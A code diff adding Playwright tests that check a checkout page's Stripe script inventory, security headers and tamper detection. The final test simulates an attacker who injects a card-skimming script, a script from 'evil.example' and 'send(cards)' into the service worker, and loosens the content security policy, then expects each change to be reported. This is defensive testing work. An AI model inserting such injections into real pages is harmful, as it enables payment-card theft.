@@ -1,0 +1,109 @@
+import { paymentScripts } from '#src/layouts/payment/payment-scripts.ts'
+import { watchPayments } from '#tests/stripe/watch.ts'
+import { addresses } from '#tests/support/site/site-ports.ts'
+import { expectPlaced, fillContact, placeOrder, untilAlive } from '../fixtures/order.ts'
+import { answerBank, fillCardFields } from '../fixtures/stripe.ts'
+import { expect, test } from '../fixtures/test.ts'
+
+test.use({ viewport: { width: 375, height: 740 }, hasTouch: true, isMobile: true })
+
+test('all of it works at Stripe’s own addresses, under the headers of the page', async ({ page, guest }) => {
+  const scripts: string[] = []
+  page.on('request', asked => asked.resourceType() === 'script' && scripts.push(asked.url()))
+  // What is there without network: the stand-in, by their names.
+  await page.route(/^https:\/\/(js|api)\.stripe\.com\//, async route => {
+    const { pathname, search } = new URL(route.request().url())
+    const path = pathname === '/endive/stripe.js' ? '/stand-in/stripe.js' : pathname
+    await route.fulfill({ response: await route.fetch({ url: addresses.stripe + path + search }) })
+  })
+  await page.route('**/api/app', async route => {
+    const app = await (await route.fetch()).json()
+    app.data.payment.script = null
+    await route.fulfill({ json: app })
+  })
+  await guest.hasBag(['three-tenders'])
+  await page.goto('/order/checkout')
+  await untilAlive(page)
+  await fillContact(page)
+  await fillCardFields(page, '4000 0027 6000 3184')
+  await placeOrder(page)
+  await answerBank(page, 'Complete')
+  await expectPlaced(page)
+  const { origin } = new URL(page.url())
+  const known = paymentScripts.flatMap(each => each.scripts).map(source => source.replace("'self'", origin))
+  expect(scripts.filter(url => !known.some(source => url.startsWith(`${source}/`)))).toEqual([])
+  expect(scripts).toContain('https://js.stripe.com/endive/stripe.js')
+})
+
+test('no other page asks for anything of Stripe, and its headers are as strict as ever', async ({
+  page,
+  guest,
+}) => {
+  const asked: string[] = []
+  page.on('request', request => asked.push(request.url()))
+  await guest.hasBag(['three-tenders'])
+  for (const path of ['/', '/locations', '/account/signin']) {
+    const answer = await page.goto(path)
+    expect(answer?.headers()).toMatchObject({
+      'permissions-policy': expect.stringContaining('payment=(self)'),
+      'cross-origin-opener-policy': 'same-origin',
+      'content-security-policy': expect.not.stringContaining('stripe'),
+    })
+  }
+  expect(asked.filter(url => /stripe|stand-in/.test(url))).toEqual([])
+})
+
+const watched = { site: addresses.other, dist: process.env.DIST_DIR ?? 'dist', standIn: addresses.stripe }
+
+test('the payment pages of a running site are as they were built', async () => {
+  const { scripts, problems } = await watchPayments(watched)
+  expect(problems).toEqual([])
+  expect(scripts).toBeGreaterThan(20)
+})
+
+test('whoever looks at payment pages that somebody changed is told of each change', async () => {
+  const change = async (
+    answer: Response,
+    to: (text: string) => string,
+    change: Record<string, string> = {},
+  ) => {
+    const headers = new Headers(answer.headers)
+    for (const [name, value] of Object.entries(change)) headers.set(name, value)
+    return new Response(to(await answer.text()), { status: answer.status, headers })
+  }
+  /** Somebody between the site and its guests. */
+  const changed: typeof fetch = async (asked, init) => {
+    const answer = await fetch(asked, init)
+    const { pathname } = new URL(String(asked))
+    if (pathname === '/sw.js') return change(answer, code => `${code}\nsend(cards)`)
+    if (pathname !== '/order/checkout') return answer
+    const policy = answer.headers.get('content-security-policy') ?? ''
+    return change(
+      answer,
+      html =>
+        html.replace(
+          '</body>',
+          '<script>send(cards)</script><script src="https://evil.example/a.js"></script></body>',
+        ),
+      {
+        'content-security-policy': policy
+          .replace('script-src', "script-src https://evil.example 'unsafe-inline'")
+          .replace("base-uri 'self';", ''),
+        'x-content-type-options': 'none',
+      },
+    )
+  }
+  const { problems } = await watchPayments({ ...watched, fetch: changed })
+  expect(problems).toEqual([
+    '/order/checkout: x-content-type-options is “none” instead of “nosniff”',
+    "/order/checkout: base-uri is “missing” instead of “'self'”",
+    '/order/checkout: script-src lets https://evil.example in, which is in no inventory',
+    "/order/checkout: script-src lets 'unsafe-inline' in, which is in no inventory",
+    expect.stringMatching(
+      /^\/order\/checkout: a script stands in the page that its policy does not know: sha256-/,
+    ),
+    '/order/checkout: a script in the page is none of the build: send(cards)',
+    '/order/checkout: the script https://evil.example/a.js is none of the build',
+    '/sw.js is not what was built',
+  ])
+})
